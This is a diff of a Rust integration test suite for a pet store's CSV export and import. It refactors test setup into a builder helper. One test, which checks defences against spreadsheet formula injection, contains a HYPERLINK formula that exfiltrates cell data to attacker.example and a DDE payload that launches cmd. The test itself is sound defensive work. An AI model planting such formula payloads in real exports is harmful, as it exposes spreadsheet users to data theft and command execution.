@@ -31,29 +31,16 @@ async fn export(app: &TestApp) -> String {
 async fn the_pets_export_is_rfc_4180_with_quoting_and_empty_cells() {
     let app = TestApp::spawn().await;
     let cat = app.category("Fish, cold water").await;
-    let res = app
-        .post("/pets", json!({ "name": "Goldie \"the great\"", "categoryId": cat, "status": "available", "sku": "F-1", "barcode": "4006381333931", "price": 450 }))
+    let goldie = app
+        .pet("Goldie \"the great\"", cat)
+        .with("sku", "F-1")
+        .with("barcode", "4006381333931")
+        .with("price", 450)
+        .stock(30)
+        .reorder_point(10)
+        .create()
         .await;
-    let goldie = body(res).await["id"].as_i64().unwrap();
-    app.send_json(
-        Method::PUT,
-        &format!("/store/inventory/{goldie}"),
-        json!({ "quantity": 30 }),
-    )
-    .await;
-    app.send_json(
-        Method::PATCH,
-        &format!("/store/inventory/{goldie}"),
-        json!({ "reorderPoint": 10 }),
-    )
-    .await;
-    let plain = body(
-        app.post("/pets", json!({ "name": "Nemo", "categoryId": cat }))
-            .await,
-    )
-    .await["id"]
-        .as_i64()
-        .unwrap();
+    let plain = app.pet("Nemo", cat).no_status().create().await;
 
     assert_eq!(
         export(&app).await,
@@ -69,26 +56,18 @@ async fn the_pets_export_is_rfc_4180_with_quoting_and_empty_cells() {
 async fn an_import_creates_updates_and_counts_what_it_leaves_unchanged() {
     let app = TestApp::spawn().await;
     let fish = app.category("Fish").await;
-    let kept = body(
-        app.post(
-            "/pets",
-            json!({ "name": "Koi", "categoryId": fish, "sku": "KOI" }),
-        )
-        .await,
-    )
-    .await["id"]
-        .as_i64()
-        .unwrap();
-    let by_barcode = body(
-        app.post(
-            "/pets",
-            json!({ "name": "Guppy", "categoryId": fish, "barcode": "96385074" }),
-        )
-        .await,
-    )
-    .await["id"]
-        .as_i64()
-        .unwrap();
+    let kept = app
+        .pet("Koi", fish)
+        .no_status()
+        .with("sku", "KOI")
+        .create()
+        .await;
+    let by_barcode = app
+        .pet("Guppy", fish)
+        .no_status()
+        .with("barcode", "96385074")
+        .create()
+        .await;
     let csv = format!(
         "name,category,sku,barcode,price,quantity,reorderPoint,status,id\n\
          Koi,Fish,KOI,,,,,,{kept}\n\
@@ -161,16 +140,12 @@ async fn a_dry_run_counts_and_changes_nothing() {
 async fn one_bad_row_rolls_the_whole_import_back_with_errors_by_line_and_field() {
     let app = TestApp::spawn().await;
     let fish = app.category("Fish").await;
-    let koi = body(
-        app.post(
-            "/pets",
-            json!({ "name": "Koi", "categoryId": fish, "sku": "KOI" }),
-        )
-        .await,
-    )
-    .await["id"]
-        .as_i64()
-        .unwrap();
+    let koi = app
+        .pet("Koi", fish)
+        .no_status()
+        .with("sku", "KOI")
+        .create()
+        .await;
     let before = export(&app).await;
     let csv = "name,category,sku,barcode,price,quantity\n\
                Nemo,Fish,NEMO,,100,3\n\
@@ -216,26 +191,19 @@ async fn one_bad_row_rolls_the_whole_import_back_with_errors_by_line_and_field()
 async fn rows_are_matched_by_id_then_sku_then_barcode() {
     let app = TestApp::spawn().await;
     let fish = app.category("Fish").await;
-    let a = body(
-        app.post(
-            "/pets",
-            json!({ "name": "A", "categoryId": fish, "sku": "A-1", "barcode": "96385074" }),
-        )
-        .await,
-    )
-    .await["id"]
-        .as_i64()
-        .unwrap();
-    let b = body(
-        app.post(
-            "/pets",
-            json!({ "name": "B", "categoryId": fish, "sku": "B-1" }),
-        )
-        .await,
-    )
-    .await["id"]
-        .as_i64()
-        .unwrap();
+    let a = app
+        .pet("A", fish)
+        .no_status()
+        .with("sku", "A-1")
+        .with("barcode", "96385074")
+        .create()
+        .await;
+    let b = app
+        .pet("B", fish)
+        .no_status()
+        .with("sku", "B-1")
+        .create()
+        .await;
     // By id: the row renames pet A and gives it a new sku.
     let res = import(
         &app,
@@ -408,22 +376,15 @@ async fn a_single_bad_row_among_good_ones_leaves_the_store_as_it_was() {
 async fn a_column_the_file_does_not_have_leaves_that_field_as_it_is() {
     let app = TestApp::spawn().await;
     let fish = app.category("Fish").await;
-    let res = app
-        .post("/pets", json!({ "name": "Guppy", "categoryId": fish, "status": "available", "sku": "G-1", "barcode": "96385074", "price": 299 }))
+    let id = app
+        .pet("Guppy", fish)
+        .with("sku", "G-1")
+        .with("barcode", "96385074")
+        .with("price", 299)
+        .stock(6)
+        .reorder_point(8)
+        .create()
         .await;
-    let id = body(res).await["id"].as_i64().unwrap();
-    app.send_json(
-        Method::PUT,
-        &format!("/store/inventory/{id}"),
-        json!({ "quantity": 6 }),
-    )
-    .await;
-    app.send_json(
-        Method::PATCH,
-        &format!("/store/inventory/{id}"),
-        json!({ "reorderPoint": 8 }),
-    )
-    .await;
     // Only a new price, matched by barcode: the status, SKU, stock and reorder point stay.
     let res = import(
         &app,
@@ -514,11 +475,11 @@ async fn money_decimal_writes_and_reads_prices_in_the_currency_s_major_unit() {
         ("Pug", json!(450)),
         ("Mutt", json!(null)),
     ] {
-        app.post(
-            "/pets",
-            json!({ "name": name, "categoryId": dogs, "price": price }),
-        )
-        .await;
+        app.pet(name, dogs)
+            .no_status()
+            .with("price", price)
+            .create()
+            .await;
     }
     let res = app.get("/store/export/pets.csv?money=decimal").await;
     assert_eq!(res.status(), 200);
@@ -662,13 +623,13 @@ async fn cells_a_spreadsheet_would_run_are_exported_as_text_and_import_back_as_t
     let link = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Click for details\")";
     let dde = "+cmd|' /C calc'!A0";
     let cat = app.category(dde).await;
-    let res = app
-        .post(
-            "/pets",
-            json!({ "name": link, "categoryId": cat, "sku": "-5", "price": 100 }),
-        )
+    let pet = app
+        .pet(link, cat)
+        .no_status()
+        .with("sku", "-5")
+        .with("price", 100)
+        .create()
         .await;
-    let pet = body(res).await["id"].as_i64().unwrap();
     let plain = app.pet_with_stock("'=already quoted", cat, 2).await;
     let (_, key) = app
         .key_with(json!({ "name": "@SUM(A1)", "role": "staff", "plan": "business" }))
@@ -783,14 +744,15 @@ async fn the_stockroom_columns_export_and_import_back_and_old_files_leave_them_a
         .await;
     let acme = body(res).await["id"].as_i64().unwrap();
     let cat = app.category("Fish").await;
-    let res = app
-        .post(
-            "/pets",
-            json!({ "name": "Guppy", "categoryId": cat, "supplierId": acme, "cost": 120,
-                    "reorderQuantity": 24, "taxRate": 700 }),
-        )
+    let guppy = app
+        .pet("Guppy", cat)
+        .no_status()
+        .with("supplierId", acme)
+        .with("cost", 120)
+        .with("reorderQuantity", 24)
+        .with("taxRate", 700)
+        .create()
         .await;
-    let guppy = body(res).await["id"].as_i64().unwrap();
     let res = app.get("/store/export/pets.csv?money=decimal").await;
     let text = res.text().await.unwrap();
     assert!(
